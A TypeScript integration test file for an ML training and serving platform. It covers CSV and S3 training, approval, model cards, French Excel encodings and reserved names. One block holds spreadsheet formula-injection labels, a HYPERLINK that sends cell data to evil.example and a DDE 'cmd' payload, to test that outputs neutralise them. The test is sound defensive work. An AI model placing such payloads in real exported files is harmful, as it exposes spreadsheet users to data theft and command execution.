import { GetObjectCommand, ListObjectsV2Command, PutObjectCommand } from '@aws-sdk/client-s3';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { TrainingRecord } from '../../functions/training/training-store';
import { isFormulaLike } from '../../functions/serving/tabular/csv-dialect';
import { scanAll } from '../../functions/platform/scan-all';
import { frenchCells, frenchExcel, MANCHOTS_HEADER, penguinsCsv } from '../../scripts/automl/sample-tables';
import { eventually, startTestPlatform, TEST_SETTINGS, type TestPlatform } from '../support/platform';
import { savedQuery } from '../support/saved-queries';

/**
 * Training from a CSV on the real local platform: over HTTP and by an S3 upload, a pending version in the models
 * bucket, a person's approval, then predictions over HTTP and by CSV batch on the trained version. The table is
 * the public penguins table of vega-datasets (node_modules), target `species`.
 */
const key = TEST_SETTINGS.apiKey;
let t: TestPlatform;
const penguins = penguinsCsv();

beforeAll(async () => {
  t = await startTestPlatform();
});

afterAll(async () => {
  await t?.stop();
});

const api = (path: string, init: RequestInit = {}) =>
  fetch(`${t.http}${path}`, { ...init, headers: { 'x-api-key': key, ...(init.headers as Record<string, string>) } });

const train = (model: string, query: string, csv: string | Buffer, contentType = 'text/csv') =>
  api(`/v1/models/${model}/trainings?${query}`, { method: 'POST', headers: { 'content-type': contentType }, body: csv });

type Training = Omit<TrainingRecord, 'inputKey' | 'callerId' | 'expiresAt'>;

async function ended(trainingId: string): Promise<Training> {
  return eventually(async () => {
    const body = (await (await api(`/v1/trainings/${trainingId}`)).json()) as Training;
    return body.status === 'succeeded' || body.status === 'failed' ? body : undefined;
  }, 120_000);
}

/** The scored CSV of the batch uploaded at `key`, from the file its record names (each upload's own, #20.3). */
async function batchOutput(key: string): Promise<string> {
  const record = await eventually(async () => {
    const found = (await t.records()).find((r) => r.inputKey === key);
    return found && (found.status as string) !== 'running' ? found : undefined;
  }, 60_000);
  expect(record.status).toBe('succeeded');
  const { outputKey } = record.result as { outputKey: string };
  const object = await t.s3.send(new GetObjectCommand({ Bucket: 'vigie-local-results', Key: outputKey }));
  return object.Body!.transformToString();
}

async function trainOver(model: string, query: string, csv: string): Promise<Training> {
  const response = await train(model, query, csv);
  expect(response.status).toBe(202);
  const body = (await response.json()) as { trainingId: string; status: string };
  expect(body.status).toBe('queued');
  expect(response.headers.get('location')).toBe(`/v1/trainings/${body.trainingId}`);
  return ended(body.trainingId);
}

const penguin = {
  island: 'Biscoe',
  beak_length_mm: 46.1,
  beak_depth_mm: 13.2,
  flipper_length_mm: 211,
  body_mass_g: 4500,
  sex: 'FEMALE',
};

describe('train, approve and serve a model from a CSV', { timeout: 240_000 }, () => {
  let version: string;
  let trainedDataSha: string;

  it('trains over HTTP into a pending version with its report, leaderboard and held-out metrics', async () => {
    const training = await trainOver('penguins', 'target=species', penguins);
    expect(training).toMatchObject({
      status: 'succeeded',
      progress: 1,
      model: 'penguins',
      target: 'species',
      task: 'classification',
    });
    version = training.version!;
    trainedDataSha = training.dataSha256!;
    expect(training.dataReport!.rows).toMatchObject({ read: 344, used: 344 });
    expect(training.dataReport!.imputations.map((i) => i.column)).toContain('sex');
    const candidates = training.leaderboard!.map((e) => e.candidate);
    const searched = ['logistic-regression', 'decision-tree', 'gradient-boosting', 'random-forest'];
    expect(candidates.slice(0, 4)).toEqual(searched);
    // Then the mean of the two best by CV (#26), listed whether or not it is chosen.
    const pair = candidates.slice(4);
    expect(pair).toHaveLength(1);
    const members = /^average\(([a-z-]+), ([a-z-]+)\)$/.exec(pair[0]!)?.slice(1);
    expect(members?.every((m) => searched.includes(m))).toBe(true);
    const heldOut = training.metrics!.heldOut as {
      accuracy: number;
      perClass: Record<string, unknown>;
      confusionMatrix: { labels: string[] };
    };
    expect(heldOut.accuracy).toBeGreaterThan(0.95);
    expect(heldOut.confusionMatrix.labels).toEqual(['Adelie', 'Chinstrap', 'Gentoo']);
    const model = (await (await api('/v1/models/penguins')).json()) as {
      servedVersion?: string;
      versions: Array<{ version: string; governance: { approval: { status: string } }; training: { data: { sha256: string } } }>;
    };
    expect(model.servedVersion).toBeUndefined();
    expect(model.versions.find((v) => v.version === version)).toMatchObject({
      governance: { approval: { status: 'pending' } },
      training: { data: { sha256: training.dataSha256 } },
    });
  });

  it('does not serve the pending version', async () => {
    const response = await api('/v1/models/penguins/predict', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ features: penguin }),
    });
    expect(response.status).toBeGreaterThanOrEqual(400);
  });

  it('serves it once approved: the original label text over HTTP and in a CSV batch', async () => {
    const approval = await api(`/v1/models/penguins/versions/${version}/approval`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ decision: 'approved', approver: 'Jane Reviewer', notes: 'held-out accuracy reviewed' }),
    });
    expect(approval.status).toBe(200);
    expect(await approval.json()).toMatchObject({ version, approval: { status: 'approved', approver: 'Jane Reviewer' } });
    const again = await api(`/v1/models/penguins/versions/${version}/approval`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ decision: 'rejected', approver: 'Someone Else' }),
    });
    expect(again.status).toBe(409);
    // The saved query answers "which trainings were approved by whom", from the audit events in the logs.
    await expect
      .poll(() => savedQuery(t, 'trainings-and-approvals').rows)
      .toEqual(
        expect.arrayContaining([
          expect.objectContaining({ event: 'training', model: 'penguins', status: 'succeeded' }),
          expect.objectContaining({ event: 'model-approval', model: 'penguins', modelVersion: version, decision: 'approved' }),
        ]),
      );
    const audited = savedQuery(t, 'trainings-and-approvals').rows;
    expect(audited.find((row) => row.event === 'model-approval')?.approverPseudonym).toMatch(/^ps_/);

    // The card, regenerated by the decision: in the models bucket beside the version, and from the API.
    const stored = await t.s3.send(
      new GetObjectCommand({ Bucket: 'vigie-local-models', Key: `models/penguins/${version}/model-card.md` }),
    );
    // The registry function reads the bucket past its cache: the card shows the decision at once.
    const card = await (await api(`/v1/models/penguins/versions/${version}/card`)).text();
    for (const markdown of [await stored.Body!.transformToString(), card]) {
      expect(markdown).toContain(`# Model card: penguins ${version}`);
      expect(markdown).toContain('Approval: **approved** by Jane Reviewer');
      expect(markdown).toMatch(/### Data report[^]*Imputations: [^\n]*sex: most-frequent/);
      // island and sex are categories: their values are published with the model, so the approver is told to look.
      expect(markdown).toMatch(/Encodings: [^\n]*island[^]*Before approving: the category values above are published/);
      expect(markdown).toMatch(/### Leaderboard[^]*\| (\*\*)?logistic-regression[^]*\| (\*\*)?decision-tree/);
      expect(markdown).toContain(`SHA-256 ${trainedDataSha}`);
      expect(markdown).toMatch(/at commit ([0-9a-f]{40}|unknown)/);
      expect(markdown).toMatch(/\| heldOut \| accuracy \| (1|0\.9\d*) \|/);
    }
    const cardJson = (await (
      await api(`/v1/models/penguins/versions/${version}/card`, { headers: { accept: 'application/json' } })
    ).json()) as { quantitative_analysis: { performance_metrics: Array<{ slice: string }> } };
    expect(cardJson.quantitative_analysis.performance_metrics.map((m) => m.slice)).toContain('leaderboard: decision-tree');

    const answer = await eventually(async () => {
      const response = await api('/v1/models/penguins/predict', {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ features: penguin }),
      });
      return response.status === 200
        ? ((await response.json()) as { modelVersion: string; result: { label: string } })
        : undefined;
    }, 30_000);
    expect(answer).toMatchObject({ modelVersion: version, result: { label: 'Gentoo' } });

    const rows = penguins.split('\n').slice(0, 6);
    const header = rows[0]!.split(',');
    const without = (line: string) =>
      line
        .split(',')
        .filter((_, i) => header[i] !== 'species')
        .join(',');
    await t.s3.send(
      new PutObjectCommand({
        Bucket: t.platform.uploadsBucket,
        Key: 'incoming/penguins/day-1.csv',
        Body: rows.map(without).join('\n') + '\n',
      }),
    );
    const output = await batchOutput('incoming/penguins/day-1.csv');
    const lines = output.trim().split('\n');
    expect(lines[0]).toBe('island,beak_length_mm,beak_depth_mm,flipper_length_mm,body_mass_g,sex,prediction,score,error');
    // The fourth row has no measurement at all: the graph imputes them, as in training, and still answers.
    expect(lines.slice(1).map((line) => line.split(',')[6])).toEqual(['Adelie', 'Adelie', 'Adelie', 'Adelie', 'Adelie']);
  });

  it('trains from an upload to training/<model>/ with the target in its metadata', async () => {
    await t.s3.send(
      new PutObjectCommand({
        Bucket: t.platform.uploadsBucket,
        Key: 'training/penguins-s3/table.csv',
        Body: penguins,
        Metadata: { target: 'species', timebudgetseconds: '30' },
      }),
    );
    const record = await eventually(async () => {
      const all = await scanAll<TrainingRecord>(t.documents, 'vigie-local-trainings');
      return all.find((r) => r.model === 'penguins-s3' && (r.status === 'succeeded' || r.status === 'failed'));
    }, 120_000);
    expect(record).toMatchObject({ status: 'succeeded', source: 's3', version: '1.0.0', task: 'classification' });
  });
});

describe('bad training input', { timeout: 120_000 }, () => {
  const rows = (n: number, row: (i: number) => string) =>
    ['x,y', ...Array.from({ length: n }, (_, i) => row(i))].join('\n') + '\n';

  it.each([
    ['no target', 'task=classification', rows(30, (i) => `${i % 5},${i % 2}`), 400, 'invalid-training-request'],
    ['an unknown target', 'target=z', rows(30, (i) => `${i % 5},${i % 2}`), 400, 'unknown-target'],
    ['a bad task', 'target=y&task=clustering', rows(30, (i) => `${i % 5},${i % 2}`), 400, 'invalid-training-request'],
    ['an empty body', 'target=y', '', 400, 'empty-input'],
  ])('%s: 4xx at once', async (_, query, csv, status, code) => {
    const response = await train('bad-input', query, csv);
    expect(response.status).toBe(status);
    expect(await response.json()).toMatchObject({ code });
  });

  it('a body that is not text/csv: 415', async () => {
    expect((await train('bad-input', 'target=y', '{}', 'application/json')).status).toBe(415);
  });

  it.each([
    ['ragged rows', rows(30, (i) => (i === 12 ? '1' : `${i % 5},${i % 2}`)), 'ragged-rows'],
    ['one class', rows(30, (i) => `${i % 5},a`), 'single-class'],
    ['an all-empty target', rows(30, (i) => `${i % 5},`), 'target-empty'],
    ['fewer than 20 usable rows', rows(15, (i) => `${i % 5},${i % 2}`), 'too-few-rows'],
    ['a file that is not CSV', '\u0000\u0001\u0002 binary', 'not-csv'],
  ])('%s: a failed training with its error, and no version', async (_, csv, code) => {
    const training = await trainOver('bad-input', 'target=y', csv);
    expect(training).toMatchObject({ status: 'failed', error: { code, message: expect.any(String) } });
    expect(training.version).toBeUndefined();
    expect((await api('/v1/models/bad-input')).status).toBe(404);
  });

  it('an upload without a target in its metadata: a failed training', async () => {
    await t.s3.send(
      new PutObjectCommand({ Bucket: t.platform.uploadsBucket, Key: 'training/no-target/table.csv', Body: penguins }),
    );
    const record = await eventually(async () => {
      const all = await scanAll<TrainingRecord>(t.documents, 'vigie-local-trainings');
      return all.find((r) => r.model === 'no-target');
    }, 60_000);
    expect(record).toMatchObject({ status: 'failed', error: { code: 'invalid-training-request' } });
  });
});

describe('a French Excel export: Windows-1252, `;`, decimal commas, accented names', { timeout: 240_000 }, () => {
  // The penguins table as « CSV (séparateur : point-virgule) » writes it: `;`, decimal commas, CRLF, and one byte
  // per accented letter (Windows-1252), headers in French. Through S3, which keeps the bytes as they were sent.
  const header = MANCHOTS_HEADER;
  const cells = frenchCells(penguins);
  const put = (Key: string, Body: Buffer, Metadata?: Record<string, string>) =>
    t.s3.send(new PutObjectCommand({ Bucket: t.platform.uploadsBucket, Key, Body, Metadata }));

  it('trains from it with every accented column kept, and scores a batch exported the same way', async () => {
    // S3 metadata is ASCII: the accented target travels as an RFC 2047 encoded word, as the README shows.
    const target = `=?UTF-8?B?${Buffer.from('Espèce').toString('base64')}?=`;
    await put('training/manchots-excel/export.csv', frenchExcel([header, ...cells]), { target });
    const training = await eventually(async () => {
      const all = await scanAll<TrainingRecord>(t.documents, 'vigie-local-trainings');
      return all.find((r) => r.model === 'manchots-excel' && (r.status === 'succeeded' || r.status === 'failed'));
    }, 120_000);
    expect(training).toMatchObject({ status: 'succeeded', version: '1.0.0' });
    expect(training.dataReport!.columns.kept.map((column) => column.name)).toEqual(header.slice(1));
    const approval = await api('/v1/models/manchots-excel/versions/1.0.0/approval', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ decision: 'approved', approver: 'Jeanne Relectrice', notes: 'export Excel' }),
    });
    expect(approval.status).toBe(200);

    // The features of three penguins, exported the same way, uploaded right after the approval (a warm batch
    // container's listing may predate the model): answered in UTF-8 with a BOM, accents intact.
    await put(
      'incoming/manchots-excel/jour-1.csv',
      frenchExcel([header.slice(1), ...cells.slice(0, 3).map((row) => row.slice(1))]),
    );
    const output = await batchOutput('incoming/manchots-excel/jour-1.csv');
    const [answerHeader, first] = output.split('\r\n');
    expect(answerHeader).toBe(`\uFEFF${header.slice(1).join(';')};prediction;score;error`);
    expect(first!.startsWith(`${cells[0]!.slice(1).join(';')};${cells[0]![0]};`)).toBe(true);
  });

  it('over HTTP: as text/csv its accents are lost on the way, said so (csv-not-utf8); as octet-stream it trains', async () => {
    // API Gateway (serverless-offline too) hands a text/* body over as UTF-8 text: each Windows-1252 accented byte
    // arrives as U+FFFD, and the target 'Espèce' was refused as unknown (#26).
    const bytes = frenchExcel([header, ...cells]);
    const query = `target=${encodeURIComponent('Espèce')}&timeBudgetSeconds=5`;
    const refused = await train('manchots-http', query, bytes);
    expect(refused.status).toBe(400);
    expect(await refused.json()).toMatchObject({ code: 'csv-not-utf8' });
    const accepted = await train('manchots-http', query, bytes, 'application/octet-stream');
    expect(accepted.status).toBe(202);
    const training = await ended(((await accepted.json()) as { trainingId: string }).trainingId);
    expect(training).toMatchObject({ status: 'succeeded', target: 'Espèce' });
    expect(training.dataReport!.columns.kept.map((column) => column.name)).toEqual(header.slice(1));
  });
});

describe('names a training may not take (issue #20.12)', { timeout: 120_000 }, () => {
  const csv = ['x,y', ...Array.from({ length: 40 }, (_, i) => `${i % 5},${i % 2 === 0 ? 'a' : 'b'}`)].join('\n') + '\n';

  it.each(['digits', 'iris', 'unknown'])('%s over HTTP: 409 reserved-model-name at once', async (model) => {
    const response = await train(model, 'target=y', csv);
    expect(response.status).toBe(409);
    expect(await response.json()).toMatchObject({ code: 'reserved-model-name' });
  });

  it('an upload to training/digits/: a failed training, nothing in the models bucket, digits still the image model', async () => {
    await t.s3.send(
      new PutObjectCommand({
        Bucket: t.platform.uploadsBucket,
        Key: 'training/digits/table.csv',
        Body: csv,
        Metadata: { target: 'y' },
      }),
    );
    const record = await eventually(async () => {
      const all = await scanAll<TrainingRecord>(t.documents, 'vigie-local-trainings');
      return all.find((r) => r.model === 'digits');
    }, 60_000);
    expect(record).toMatchObject({ status: 'failed', error: { code: 'reserved-model-name' } });
    const stored = await t.s3.send(new ListObjectsV2Command({ Bucket: 'vigie-local-models', Prefix: 'models/digits/' }));
    expect(stored.Contents ?? []).toEqual([]);
    const digits = (await (await api('/v1/models/digits')).json()) as { input?: { kind?: string } };
    expect(JSON.stringify(digits)).toContain('"kind":"image"');
  });
});

describe('labels that are spreadsheet formulas (issue #20.9)', { timeout: 240_000 }, () => {
  const labels = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3'];
  const quoted = (label: string) => `"${label.replace(/"/g, '""')}"`;
  const table = ['x,noise,label', ...Array.from({ length: 60 }, (_, i) => `${i % 4},${(i * 7) % 11},${quoted(labels[i % 4]!)}`)];
  const toScore = 'x,noise,note\n0,1,=1+1\n1,2,ok\n2,3,ok\n3,4,-1.5\n';

  /** The prediction column of a scored CSV, and every cell of it, as a spreadsheet would read them. */
  const cellsOf = (csv: string) => parse(csv, { columns: true }) as Record<string, string>[];

  it('are learnt, then written neutralised in an HTTP text/csv answer and in a batch results file', async () => {
    const training = await trainOver('formula-labels', 'target=label&timeBudgetSeconds=5', `${table.join('\n')}\n`);
    expect(training).toMatchObject({ status: 'succeeded', task: 'classification' });
    const approval = await api(`/v1/models/formula-labels/versions/${training.version}/approval`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ decision: 'approved', approver: 'Jane Reviewer' }),
    });
    expect(approval.status).toBe(200);

    const answer = await eventually(async () => {
      const response = await api('/v1/models/formula-labels/predict', {
        method: 'POST',
        headers: { 'content-type': 'text/csv', accept: 'text/csv' },
        body: toScore,
      });
      return response.status === 200 ? response.text() : undefined;
    }, 30_000);
    // The same table through a CSV batch (S3 upload → batch function → results file) is written the same way.
    await t.s3.send(
      new PutObjectCommand({ Bucket: t.platform.uploadsBucket, Key: 'incoming/formula-labels/day.csv', Body: toScore }),
    );
    const batch = await batchOutput('incoming/formula-labels/day.csv');
    for (const rows of [cellsOf(answer), cellsOf(batch)]) {
      expect(rows.map((row) => row.prediction)).toEqual(labels.map((label) => `'${label}`));
      expect(rows.flatMap((row) => Object.values(row)).filter(isFormulaLike)).toEqual([]);
      // An echoed formula is neutralised too; a negative number stays a number.
      expect(rows.map((row) => row.note)).toEqual(["'=1+1", 'ok', 'ok', '-1.5']);
    }
  });
});
